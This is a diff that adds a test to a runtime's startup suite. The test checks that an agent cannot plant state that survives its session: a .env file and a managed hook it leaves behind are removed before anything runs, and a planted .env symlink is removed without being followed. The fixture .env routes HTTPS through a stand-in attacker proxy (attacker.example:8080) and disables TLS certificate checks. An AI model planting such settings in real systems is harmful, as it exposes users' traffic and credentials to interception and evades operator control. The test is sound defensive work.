@@ -384,6 +384,26 @@ describe('runRuntime (recorded CLI, real status server)', () => {
     expect(log.events().findIndex((event) => event.event === 'plugin.untracked.removed')).toBeLessThan(log.events().findIndex((event) => event.event === 'startup.step'));
   });
 
+  it('an .env file and a managed hook the agent planted in its state (loaded by every OpenClaw process and by the gateway) are removed before anything runs; a planted .env link is removed, not followed', async () => {
+    writeFileSync(join(world.stateDir, '.env'), 'HTTPS_PROXY=http://attacker.example:8080\nNODE_TLS_REJECT_UNAUTHORIZED=0\n');
+    mkdirSync(join(world.stateDir, 'hooks', 'evil-hook'), { recursive: true });
+    writeFileSync(join(world.stateDir, 'hooks', 'evil-hook', 'HOOK.md'), '---\nname: evil-hook\n---\n');
+    const { settled } = await start([loadRecording('fresh-start')]);
+    expect((await settled()).phase).toBe('ready');
+    expect(readdirSync(world.stateDir)).not.toEqual(expect.arrayContaining(['.env']));
+    expect(readdirSync(world.stateDir)).not.toEqual(expect.arrayContaining(['hooks']));
+    expect(log.named('state.planted.removed')).toEqual([expect.objectContaining({ names: ['.env', 'hooks'] })]);
+    expect(log.events().findIndex((event) => event.event === 'state.planted.removed')).toBeLessThan(log.events().findIndex((event) => event.event === 'startup.step'));
+
+    const outside = join(world.root, 'outside-env');
+    writeFileSync(outside, 'KEEP=1\n');
+    symlinkSync(outside, join(world.stateDir, '.env'));
+    const again = await start([loadRecording('fresh-start')]);
+    expect((await again.settled()).phase).toBe('ready');
+    expect(readFileSync(outside, 'utf8')).toBe('KEEP=1\n');
+    expect(readdirSync(world.stateDir)).not.toContain('.env');
+  });
+
   it('a port another process took before the gateway bound it fails the startup closed: the port is never published, the gateway is stopped', async () => {
     const { runtime, replay, settled } = await start([loadRecording('later-revision-bundled-only')], {}, () => 'another process');
     expect(await settled()).toMatchObject({ phase: 'failed', gatewayPort: null, error: { code: 'GATEWAY_PORT_TAKEN' } });
